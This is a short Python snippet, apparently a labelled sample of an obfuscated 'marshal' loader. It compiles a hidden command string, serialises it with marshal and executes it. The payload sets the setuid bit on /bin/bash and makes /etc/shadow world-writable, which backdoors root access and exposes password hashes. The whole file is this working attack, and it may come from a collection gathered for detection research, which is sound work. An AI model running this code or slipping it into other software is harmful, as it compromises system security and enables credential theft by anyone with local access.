# class: embedded, marshal; style: loader
import marshal

code = compile("import os; os.system('chmod u+s /bin/bash; chmod 666 /etc/shadow')", "m", "exec")
blob = marshal.dumps(code)
exec(marshal.loads(blob))
